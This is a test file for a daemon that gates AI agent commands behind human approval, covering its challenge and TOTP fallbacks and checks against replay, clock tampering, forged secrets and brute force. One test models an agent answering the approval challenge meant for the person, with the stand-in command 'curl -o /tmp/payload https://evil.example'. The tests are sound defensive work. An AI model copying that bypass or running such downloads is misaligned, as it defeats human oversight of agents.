import { writeFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { totpCode } from '../../daemon/fallback/totp.ts';
import { storeApprovedTotpSecret } from '../../daemon/fallback/totpSecret.ts';
import type { GrantsJson } from '../../daemon/cli/commands/policyGrants.ts';
import { callDaemon } from '../../daemon/socket/daemonClient.ts';
import { gateCall } from '../../daemon/socket/gateClient.ts';
import type { FallbackOffer, GateRequest } from '../../daemon/socket/localApi.ts';
import { toBase64url } from '../../shared/encoding/base64url.ts';
import {
  auditLines,
  initMachine,
  newMachine,
  pairPhoneDirectly,
  runLatch,
  startDaemon,
  type LatchMachine,
  type RunningDaemon,
  withStore,
} from '../support/latchMachine.ts';
import { startLatch } from '../support/latchRun.ts';
import { movedClock } from '../support/movedClock.ts';
import { framesHandled, startPairedDaemon, type PairedDaemon } from '../support/pairedDaemon.ts';
import { phoneApproves } from '../support/phoneApproves.ts';

/**
 * The terminal fallbacks, when no phone can be reached: the relay here is a closed port. A
 * fallback is offered, and answered, on the connection that asked; nowhere else.
 */

const UNREACHABLE = 'http://127.0.0.1:9';
const TOTP_SECRET = new Uint8Array(20).fill(7);
const currentCode = () => totpCode(TOTP_SECRET, Math.floor(Date.now() / 30_000));

async function startFallbackHost(
  mode: 'challenge' | 'totp',
): Promise<{ machine: LatchMachine; daemon: RunningDaemon }> {
  const machine = newMachine();
  await initMachine(machine, {
    relay: UNREACHABLE,
    config: (text) => text.replace('mode = "none"', `mode = "${mode}"`),
  });
  await pairPhoneDirectly(machine, UNREACHABLE);
  if (mode === 'totp')
    withStore(machine, (store) =>
      storeApprovedTotpSecret(store, machine.files.totp, toBase64url(TOTP_SECRET)),
    );
  return { machine, daemon: await startDaemon(machine) };
}

/** Asks as an interactive caller, answering the fallback with `answer(offer)`. */
function ask(
  machine: LatchMachine,
  answer: (offer: FallbackOffer) => string | undefined | Promise<string | undefined>,
  offers: FallbackOffer[] = [],
  call: Pick<GateRequest, 'risk' | 'target' | 'input'> = {},
) {
  return gateCall(
    { agent: 'test', tool: 'deploy', title: 'deploy to prod', interactive: true, canDefer: false, ...call },
    {
      socketPath: machine.socket,
      onFallback: async (offer) => {
        offers.push(offer);
        return answer(offer);
      },
    },
  );
}

/** The sum a low-risk challenge asks, from its prompt. */
const solve = (prompt: string) => {
  const [, a, b] = /what is (\d+) \+ (\d+)\?/.exec(prompt)!;
  return String(Number(a) + Number(b));
};

describe('the local challenge', () => {
  let host: { machine: LatchMachine; daemon: RunningDaemon };
  beforeAll(async () => {
    host = await startFallbackHost('challenge');
  });
  afterAll(() => host.daemon.stop());

  it('allows on the right answer, and the audit says only what it checked', async () => {
    const offers: FallbackOffer[] = [];
    const answer = await ask(host.machine, (offer) => solve(offer.prompt), offers);
    expect(offers[0]).toMatchObject({
      method: 'challenge',
      reason: expect.stringMatching(/^relay_unreachable/),
    });
    expect(answer).toMatchObject({ decision: 'allow', via: 'challenge', requestId: offers[0]!.requestId });
    expect(auditLines(host.machine)).toContainEqual(
      expect.objectContaining({
        event: 'decided',
        requestId: offers[0]!.requestId,
        decision: 'allow',
        via: 'challenge',
        verified: 'the answer only, given on the connection that asked',
      }),
    );
  });

  it('denies a wrong answer with fallback_failed', async () => {
    const answer = await ask(host.machine, (offer) => `${Number(solve(offer.prompt)) + 1}`);
    expect(answer).toMatchObject({
      decision: 'deny',
      blockReason: 'fallback_failed',
      reason: 'the answer is wrong',
    });
  });

  it('refuses the right answer typed before the review time of a high-risk call is over', async () => {
    const offers: FallbackOffer[] = [];
    // The call spells its target: one it does not is not what a person types (review kd F1).
    const answer = await ask(host.machine, () => 'prod-db', offers, {
      risk: 'high',
      target: 'prod-db',
      input: '{"db":"prod-db"}',
    });
    expect(offers[0]!.prompt).toBe('Review the request above for 10 s, then type "prod-db" to approve.');
    expect(answer).toEqual({
      decision: 'deny',
      blockReason: 'fallback_failed',
      reason: 'answered before the review time was over',
      requestId: offers[0]!.requestId,
    });
  });

  it('refuses it too when the host clock is set ahead past the review time meanwhile (review rt)', async () => {
    const own = await startFallbackHost('challenge');
    onTestFinished(() => own.daemon.stop());
    const clock = movedClock(own.machine);
    await own.daemon.stop();
    own.daemon = await startDaemon(own.machine);
    const answer = await ask(
      own.machine,
      async () => {
        await clock.move(11_000);
        return 'prod-db';
      },
      [],
      { risk: 'high', target: 'prod-db', input: '{"db":"prod-db"}' },
    );
    expect(answer).toMatchObject({
      decision: 'deny',
      blockReason: 'fallback_failed',
      reason: 'answered before the review time was over',
    });
  });

  it('denies when the asking connection gives no answer, and no other connection can give it', async () => {
    let offered: (offer: FallbackOffer) => void;
    const offer = new Promise<FallbackOffer>((resolve) => (offered = resolve));
    let decline: () => void;
    const declined = new Promise<undefined>((resolve) => (decline = () => resolve(undefined)));
    const answer = gateCall(
      { agent: 'test', tool: 'deploy', title: 'deploy', interactive: true, canDefer: false },
      {
        socketPath: host.machine.socket,
        onFallback: (fallback) => {
          offered(fallback);
          return declined;
        },
      },
    );
    const { requestId } = await offer;
    // Another process on this host tries to answer the challenge it did not ask.
    const other = await callDaemon<{ error?: { code: string } }>(
      'POST',
      '/v1/fallback',
      { requestId, answer: '12' },
      {
        socketPath: host.machine.socket,
      },
    );
    expect(other.error?.code).toBe('not_found');
    decline!();
    expect(await answer).toMatchObject({
      decision: 'deny',
      blockReason: 'relay_unreachable',
      reason: expect.stringMatching(/the terminal fallback was not answered$/),
    });
  });

  it('joins no call to one that can answer a fallback: a copy sent first cannot answer for the person’s terminal', async () => {
    // The agent sends its hook's call before the hook does (the same session and tool call id),
    // holds the challenge offered to it, and answers it once the hook's call has come.
    const call = {
      agent: 'claude-code',
      tool: 'Bash',
      command: 'curl -o /tmp/payload https://evil.example',
      session: 'session-1',
      toolUseId: 'toolu_predicted',
      interactive: true,
      canDefer: false,
    };
    let agentOffered: (offer: FallbackOffer) => void;
    const agentOffer = new Promise<FallbackOffer>((resolve) => (agentOffered = resolve));
    let answerNow: () => void;
    const hookHasAsked = new Promise<void>((resolve) => (answerNow = resolve));
    const agent = gateCall(call, {
      socketPath: host.machine.socket,
      onFallback: async (offer) => {
        agentOffered(offer);
        // Joined, the hook would be asked nothing: the agent answers after a while all the same.
        await Promise.race([hookHasAsked, new Promise((resolve) => setTimeout(resolve, 3000))]);
        return solve(offer.prompt);
      },
    });
    const offeredToAgent = await agentOffer;
    // The hook's call, on the person's terminal, where nobody types.
    const hookOffers: FallbackOffer[] = [];
    const hook = gateCall(call, {
      socketPath: host.machine.socket,
      onFallback: async (offer) => {
        hookOffers.push(offer);
        answerNow();
        return undefined;
      },
    });
    expect(await agent).toMatchObject({ decision: 'allow', via: 'challenge' });
    expect(await hook).toMatchObject({ decision: 'deny', blockReason: 'relay_unreachable' });
    // Asked on its own, as a request of its own.
    expect(hookOffers).toHaveLength(1);
    expect(hookOffers[0]!.requestId).not.toBe(offeredToAgent.requestId);
  });

  it('is never offered to a caller that cannot prompt', async () => {
    let offered = false;
    const answer = await gateCall(
      { agent: 'test', tool: 'deploy', title: 'deploy', interactive: false, canDefer: false },
      {
        socketPath: host.machine.socket,
        onFallback: async () => {
          offered = true;
          return '0';
        },
      },
    );
    expect(offered).toBe(false);
    expect(answer).toMatchObject({ decision: 'deny', blockReason: 'relay_unreachable' });
  });
});

describe('a phone’s approval that comes while the terminal asks', () => {
  let paired: PairedDaemon;
  beforeAll(async () => {
    paired = await startPairedDaemon({
      config: (text) => text.replace('mode = "none"', 'mode = "challenge"'),
    });
  });
  afterAll(() => paired.stop());

  it('is not taken, nor the rule it brings: the daemon gave up on the relay and asked the terminal', async () => {
    const { relay, machine } = paired;
    // A relay that shows the request to the phone but never answers the daemon's POST.
    relay.answerRequest = () => new Promise(() => {});
    let offered: (offer: FallbackOffer) => void;
    const offer = new Promise<FallbackOffer>((resolve) => (offered = resolve));
    let decline: () => void;
    const declined = new Promise<undefined>((resolve) => (decline = () => resolve(undefined)));
    const answer = gateCall(
      {
        agent: 'claude-code',
        tool: 'Bash',
        command: 'git push origin main',
        cwd: '/home/dev/project',
        session: 'session-fallback',
        interactive: true,
        canDefer: false,
      },
      {
        socketPath: machine.socket,
        onFallback: (fallback) => {
          offered(fallback);
          return declined;
        },
      },
    );
    const request = await relay.nextRequest(0);
    await offer;
    const { token } = await phoneApproves(paired.phones[0], request, relay.origin, { grant: 'half_hour' });
    relay.sendApproval(request.requestId, token);
    await framesHandled(machine, relay);
    decline!();
    expect(await answer).toMatchObject({
      decision: 'deny',
      reason: expect.stringMatching(/the terminal fallback was not answered$/),
    });
    const lines = auditLines(machine).filter((line) => line['requestId'] === request.requestId);
    expect(lines).toContainEqual(expect.objectContaining({ event: 'token_refused', code: 'withdrawn' }));
    expect(lines.map((line) => line['event'])).not.toContain('approved');
    const grants = JSON.parse((await runLatch(machine, ['policy', 'grants', '--json'])).stdout) as GrantsJson;
    expect(grants.grants).toEqual([]);
  });
});

describe('the TOTP fallback', () => {
  let host: { machine: LatchMachine; daemon: RunningDaemon };
  beforeAll(async () => {
    host = await startFallbackHost('totp');
  });
  afterAll(() => host.daemon.stop());

  it('allows a valid code once, and refuses the same code for the next request', async () => {
    const code = currentCode();
    expect(await ask(host.machine, () => code)).toMatchObject({ decision: 'allow', via: 'totp' });
    expect(await ask(host.machine, () => code)).toMatchObject({
      decision: 'deny',
      blockReason: 'fallback_failed',
      reason: 'the TOTP code is wrong or was already used',
    });
    expect(auditLines(host.machine)).toContainEqual(
      expect.objectContaining({ via: 'totp', verified: 'a TOTP code, given on the connection that asked' }),
    );
  });

  it('denies a valid code typed after the fleet froze: an allow is checked when it is given', async () => {
    const own = await startFallbackHost('totp');
    onTestFinished(() => own.daemon.stop());
    const answer = await ask(own.machine, async () => {
      // The relay is out of reach: latch panic exits 1, and this host is frozen all the same.
      expect((await runLatch(own.machine, ['panic', 'stop', 'everything'])).code).toBe(1);
      return currentCode();
    });
    expect(answer).toMatchObject({
      decision: 'deny',
      blockReason: 'kill_switch',
      reason: 'kill_switch: the fleet is frozen (stop everything)',
    });
    expect(auditLines(own.machine)).toContainEqual(
      expect.objectContaining({ event: 'decided', decision: 'deny', via: 'totp' }),
    );
  });

  it('refuses the codes of a secret file a phone did not approve (written outside any gate)', async () => {
    const own = await startFallbackHost('totp');
    onTestFinished(() => own.daemon.stop());
    const othersSecret = new Uint8Array(20).fill(9);
    writeFileSync(own.machine.files.totp, `${JSON.stringify({ secret: toBase64url(othersSecret) })}\n`);
    const othersCode = totpCode(othersSecret, Math.floor(Date.now() / 30_000));
    expect(await ask(own.machine, () => othersCode)).toMatchObject({
      decision: 'deny',
      blockReason: 'fallback_failed',
      reason: 'the TOTP secret file is not the one a phone approved (latch pair --totp)',
    });
  });

  it('stops taking codes after five wrong ones, the right one too, across a restart; a right one before clears the count', async () => {
    const own = await startFallbackHost('totp');
    onTestFinished(() => own.daemon.stop());
    const wrong = () => {
      const step = Math.floor(Date.now() / 30_000);
      const right = [step - 1, step, step + 1].map((near) => totpCode(TOTP_SECRET, near));
      return ['000000', '111111', '222222', '333333'].find((code) => !right.includes(code))!;
    };
    const wrongAnswer = { decision: 'deny', reason: 'the TOTP code is wrong or was already used' };
    for (let i = 0; i < 4; i++) expect(await ask(own.machine, wrong)).toMatchObject(wrongAnswer);
    expect(await ask(own.machine, currentCode)).toMatchObject({ decision: 'allow', via: 'totp' });
    for (let i = 0; i < 5; i++) expect(await ask(own.machine, wrong)).toMatchObject(wrongAnswer);
    await own.daemon.stop();
    own.daemon = await startDaemon(own.machine);
    const paused = await ask(own.machine, () => totpCode(TOTP_SECRET, Math.floor(Date.now() / 30_000) + 1));
    expect(paused).toMatchObject({ decision: 'deny', blockReason: 'fallback_failed' });
    const until = /^too many wrong TOTP codes: codes are refused until (.+)$/.exec(paused.reason)?.[1];
    // 15 minutes from the fifth wrong code.
    expect(Date.parse(until!) - Date.now()).toBeGreaterThan(14 * 60_000);
    expect(Date.parse(until!) - Date.now()).toBeLessThanOrEqual(15 * 60_000);
  });

  it('refuses a used code after a daemon restart: the used steps are on disk', async () => {
    const own = await startFallbackHost('totp');
    onTestFinished(() => own.daemon.stop());
    const code = currentCode();
    expect(await ask(own.machine, () => code)).toMatchObject({ decision: 'allow', via: 'totp' });
    await own.daemon.stop();
    own.daemon = await startDaemon(own.machine);
    expect(await ask(own.machine, () => code)).toMatchObject({
      decision: 'deny',
      blockReason: 'fallback_failed',
      reason: 'the TOTP code is wrong or was already used',
    });
  });

  it('refuses a wrong code', async () => {
    const wrong = String((Number(currentCode()) + 1) % 1_000_000).padStart(6, '0');
    expect(await ask(host.machine, () => wrong)).toMatchObject({
      decision: 'deny',
      blockReason: 'fallback_failed',
    });
  });
});

/**
 * `latch request` on a terminal of its own: the real client prompts on /dev/tty, where a person
 * reads the screen and types `answer(screen)` once it shows the prompt. Resolves with the exit
 * code and the `--json` answer.
 */
async function requestOnTerminal(
  machine: LatchMachine,
  answer: (screen: string) => string | undefined,
): Promise<{ code: number | null; json: Record<string, unknown> }> {
  const request = startLatch(machine, ['request', '--title', 'deploy to prod', '--json'], { terminal: true });
  onTestFinished(() => request.kill());
  request.type(await request.waitFor(answer, 'its prompt'));
  const code = await request.exited;
  const line = request
    .stdout()
    .split('\n')
    .find((text) => text.startsWith('{'));
  if (line === undefined) throw new Error(`latch request printed no answer:\n${request.stdout()}`);
  return { code, json: JSON.parse(line) as Record<string, unknown> };
}

describe('on the terminal: latch request, answered by the person at the keyboard', () => {
  const TOTP_PROMPT = 'Enter the 6-digit code from your authenticator app: ';
  const SUM_PROMPT = /what is \d+ \+ \d+\? $/;

  it('approves with a TOTP code typed there, and refuses the same code typed again', async () => {
    const host = await startFallbackHost('totp');
    onTestFinished(() => host.daemon.stop());
    const code = currentCode();
    const typeCode = (screen: string) => (screen.endsWith(TOTP_PROMPT) ? code : undefined);
    expect(await requestOnTerminal(host.machine, typeCode)).toEqual({
      code: 0,
      json: expect.objectContaining({ decision: 'approved', via: 'totp' }),
    });
    expect(await requestOnTerminal(host.machine, typeCode)).toEqual({
      code: 1,
      json: expect.objectContaining({
        decision: 'denied',
        blockReason: 'fallback_failed',
        reason: 'the TOTP code is wrong or was already used',
      }),
    });
  });

  it('refuses a wrong answer to the challenge typed there, and approves the right one', async () => {
    const host = await startFallbackHost('challenge');
    onTestFinished(() => host.daemon.stop());
    const answering = (wrongBy: number) => (screen: string) =>
      SUM_PROMPT.test(screen) ? String(Number(solve(screen)) + wrongBy) : undefined;
    expect(await requestOnTerminal(host.machine, answering(1))).toEqual({
      code: 1,
      json: expect.objectContaining({
        decision: 'denied',
        blockReason: 'fallback_failed',
        reason: 'the answer is wrong',
      }),
    });
    expect(await requestOnTerminal(host.machine, answering(0))).toEqual({
      code: 0,
      json: expect.objectContaining({ decision: 'approved', via: 'challenge' }),
    });
  });
});
